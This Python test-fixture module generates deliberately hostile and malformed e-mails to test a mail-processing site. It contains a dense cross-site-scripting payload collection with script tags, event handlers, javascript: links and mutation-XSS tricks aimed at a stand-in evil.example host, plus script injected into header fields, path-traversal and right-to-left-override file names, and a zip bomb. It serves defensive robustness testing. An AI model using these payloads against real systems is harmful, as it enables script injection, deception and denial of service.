"""Makes e-mails meant to hurt: to exhaust, to mislead, or to run something in the page that shows them.

Those that are merely broken, as real ones are, stand in `tests/mail`. What must become of all is for the tests.
"""

import base64
import io
import zipfile
from collections.abc import Iterator

from tests.mail.make import MAILS, OTHER_TOKEN, TOKEN, mail, mixed, part, pdf

DOMAIN = "northport.example"
OURS = f"foi-{TOKEN}@{DOMAIN}"
OTHER = f"foi-{OTHER_TOKEN}@{DOMAIN}"
STRANGER = "Stranger <stranger@elsewhere.example>"

HOSTILE_HTML = (
    b'<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
    b'<style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="//evil.example/a.css">'
    b'</head><body onload="steal()"><p style="background:url(https://evil.example/b)" onclick="steal()">Dear Asha</p>'
    b"<script>steal()</script><scr<script>ipt>steal()</scr</script>ipt>"
    b'<svg onload="steal()"><script>steal()</script><a xlink:href="javascript:steal()">x</a></svg>'
    b'<math><mtext></mtext><mglyph><style><img src=x onerror="steal()"></style></mglyph></math>'
    b'<img src=x onerror="steal()"><img src="https://evil.example/pixel.gif"><iframe srcdoc="<script>steal()</script>">'
    b'</iframe><a href="javascript:steal()">a</a><a href=" java\tscript:steal()">b</a><a href="data:text/html,x">c</a>'
    b'<form action="https://evil.example/"><input name="password"><button formaction="javascript:steal()">Go</button>'
    b"</form><object data='https://evil.example/x.swf'></object><embed src='https://evil.example/y.swf'>"
    b"<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript><!--><img src=x onerror=steal()>-->"
    b"<template><script>steal()</script></template><textarea></textarea><p>The end.</p></article></main>"
)
SCRIPT = "<script>steal()</script>\"'><img src=x onerror=steal()>"


def zip_bomb() -> bytes:
    """A zip of 100 kB that would unpack to 100 MB."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("answer.csv", bytes(100_000_000))
    return packed.getvalue()


def large_file(size: int) -> bytes:
    """A mail with one file of that many bytes."""
    encoded = base64.encodebytes(bytes(range(256)) * (size // 256))
    file = part(
        encoded,
        "application/pdf",
        Content_Transfer_Encoding="base64",
        Content_Disposition='attachment; filename="release.pdf"',
    )
    return mixed(part(b"Please find the release attached.\n"), file, To=OURS, Message_ID="<large@northport.example>")


def _hostile() -> Iterator[tuple[str, bytes]]:
    """Those that try to run something, or to show another name or direction than they have."""
    yield "html", mail(HOSTILE_HTML, Content_Type="text/html; charset=utf-8", To=OURS)
    yield "html-held", mail(HOSTILE_HTML, Content_Type="text/html; charset=utf-8", To="x@y.example", From=STRANGER)
    yield "script-in-fields", mail(SCRIPT.encode(), Subject=SCRIPT, From=f'"{SCRIPT}" <{SCRIPT}@x.example>', To=OURS)
    yield "script-in-fields-held", mail(SCRIPT.encode(), Subject=SCRIPT, From=f'"{SCRIPT}" <a@x.example>', To="x@y.z")
    names = ["../../../etc/passwd", "..\\..\\boot.ini", "C:\\x.exe", "a/b.pdf", "CON", ".", "..", "", SCRIPT]
    names += [
        "answer\u202efdp.exe",
        "\u2067\u05d0\u05d1.pdf",
        "a\x00b\x07\r\n.pdf",
        "n" * 5000 + ".pdf",
        "\U0001f600" * 400,
    ]
    yield "file-names", mixed(part(b"See the files.\n"), *(pdf(name) for name in names), To=OURS)
    yield (
        "right-to-left",
        mail(
            "\u202e\u05e9\u05dc\u05d5\u05dd\u2066 \u0645\u0631\u062d\u0628\u0627\n".encode(),
            Subject="\u202e\u05ea\u05e9\u05d5\u05d1\u05d4".encode(),
            To=OURS,
        ),
    )
    yield (
        "link-of-script",
        mail(b"Your response is ready: javascript:steal()//https://northport.sharefile.eu/d-1\n", To=OURS),
    )


def _large() -> Iterator[tuple[str, bytes]]:
    """Those that are too much of something."""
    yield "body-of-3-mb", mail(b"We hold nothing of this. " * 120_000, To=OURS)
    yield "one-line-of-2-mb", mail(b"a" * 2_000_000, To=OURS)
    yield "html-of-5-mb", mail(b"<p>Words</p>" * 420_000, Content_Type="text/html", To=OURS)
    yield "deep-html", mail(b"<div><b>" * 100_000 + b"deep", Content_Type="text/html", To=OURS)
    yield "quotes-in-quotes", mail(b"".join(b">" * depth + b" x\n" for depth in range(1, 1500)), To=OURS)
    yield "hostile-wording", mail(b"request for a review of the response section 1 " * 20_000, To=OURS)
    yield "dates-and-numbers", mail(b"section 24(1) 14 January 2027, 550 5.1.1; extend " * 20_000, To=OURS)
    files = [pdf(f"{n}.pdf", b"%%PDF-1.4 %d" % n) for n in range(300)]
    yield "300-files", mixed(part(b"All of it.\n"), *files, To=OURS)
    yield "300-files-held", mixed(part(b"All.\n"), *files, To="x@y.z", From=STRANGER)
    yield "zip-bomb", mixed(part(b"The data.\n"), pdf("answer.zip", zip_bomb()), To=OURS)
    yield "5000-parts", mixed(*(part(b"%d\n" % n) for n in range(5000)), To=OURS)
    inner = mail(To=OTHER)
    for _ in range(60):
        inner = mixed(part(b"Fwd.\n"), part(inner, "message/rfc822"), To=OURS)
    yield "60-forwards", inner


def _long_fields() -> Iterator[tuple[str, bytes]]:
    """Those whose fields are longer, more, or other than a column or a query takes."""
    wild = "".join(chr(0x4E00 + (n * 7919) % 20_000) for n in range(5000))
    yield "long-subject", mail(Subject="s" * 5000, To=OURS)
    yield "long-wild-subject-held", mail(Subject=wild.encode(), To="x@y.z", From=STRANGER)
    yield "long-sender", mail(From=f"{'n' * 5000} <{'f' * 5000}@{'d' * 5000}.example>", To=OURS)
    yield "long-wild-sender-held", mail(From=f"{wild} <{wild}@{wild}.example>".encode(), To="x@y.z")
    yield "long-message-id", mail(Message_ID=f"<{'i' * 5000}@northport.example>", To=OURS)
    yield "long-bare-message-id", mail(Message_ID=f"{'i' * 5000}@northport.example", To=OURS)
    yield "long-wild-message-id", mail(Message_ID=f"{wild}@northport.example".encode(), To=OURS)
    yield "wild-message-id", mail(Message_ID=f"<{wild[:890]}@x>".encode(), To=OURS)
    yield (
        "nul-in-fields",
        mail(b"\x00" * 99, Subject=b"a\x00b", From=b"\x00a\x00@\x00b.example", Message_ID=b"<\x00@\x00>", To=OURS),
    )
    yield "references", mail(References=" ".join(f"<{n}@northport.example>" for n in range(50_000)), To=OURS)
    yield (
        "references-held",
        mail(References=" ".join(f"<{n}@x.example>" for n in range(9_000)), To="x@y.z", From=STRANGER),
    )
    many = ", ".join(f"a{n}@domain{n}.example" for n in range(5_000))
    yield "5000-recipients", mail(To=f"{many}, {OURS}")
    yield "5000-answer-to", mail(Reply_To=many, To="x@y.z", From=STRANGER)
    yield "2000-addresses-of-ours", mail(To=", ".join(f"foi-{n:013d}@{DOMAIN}" for n in range(2_000)), From=STRANGER)
    yield (
        "addresses-of-ours-in-text",
        mail(b" ".join(b"foi-%013d@northport.example" % n for n in range(9_000)), To="x@y.z"),
    )
    yield "20000-fields", b"".join(b"X-Field-%d: yes\n" % n for n in range(20_000)) + mail(To=OURS)
    yield (
        "long-type",
        mixed(part(b"Words.\n"), part(b"x", "application/" + "y" * 5000, Content_ID="<" + "c" * 5000 + ">"), To=OURS),
    )
    report = MAILS["31-bounce-with-report"].replace(b"smtp; 550 no such mailbox", b"smtp; " + wild.encode() + b"\x00")
    yield "bounce-that-explains-at-length", report
    yield "future-date", mail(Date="Mon, 23 Nov 2150 10:00:00 +0000", To=OURS)


def _tokens() -> Iterator[tuple[str, bytes]]:
    """Those that name our cases oddly."""
    yield "one-case-twice", mail(To=f"{OURS}, {OURS}", Cc=OURS, Message_ID="<t1@northport.example>")
    yield "two-cases-in-to", mail(To=f"{OURS}, {OTHER}", Message_ID="<t2@northport.example>")
    yield "upper-case", mail(To=OURS.upper(), Message_ID="<t3@northport.example>")
    yield "quoted", mail(To=f'"\'{OURS}\'" <"foi-{TOKEN}"@{DOMAIN}>', Message_ID="<t4@northport.example>")
    yield "a-letter-mistyped", mail(To=f"foi-{TOKEN[:-1]}q@{DOMAIN}", Message_ID="<t5@northport.example>")
    yield "a-letter-missing", mail(To=f"foi-{TOKEN[1:]}@{DOMAIN}", Message_ID="<t6@northport.example>")


def _hardly_mails() -> Iterator[tuple[str, bytes]]:
    """Bytes that are hardly an e-mail."""
    yield "nothing", b""
    yield "a-line-end", b"\r\n"
    yield "only-nuls", bytes(5000)
    yield "every-byte", bytes(range(256)) * 200
    yield "no-headers", b"Only words, nothing before them.\r\n"
    yield "only-headers", b"From: a@b.example\nSubject: nothing else"
    yield "lone-surrogates", mail(b"\xed\xa0\x80\xed\xbf\xbf", Subject="=?utf-16?B?ANg=?=", To=OURS)
    yield "surrogates-in-html", mail(b"<p>&#xD800;&#0;&#x110000;</p>", Content_Type="text/html", To=OURS)
    yield "endless-boundary", mail(b"--\n" * 50_000, Content_Type='multipart/mixed; boundary=""', To=OURS)


GENERATED: dict[str, bytes] = {
    name: content for family in (_hostile, _large, _long_fields, _tokens, _hardly_mails) for name, content in family()
}
# The e-mails of tests/mail, written to the address of this site.
BROKEN: dict[str, bytes] = {
    name: content.replace(f"{TOKEN}@example.org".encode(), f"{TOKEN}@{DOMAIN}".encode())
    for name, content in MAILS.items()
}
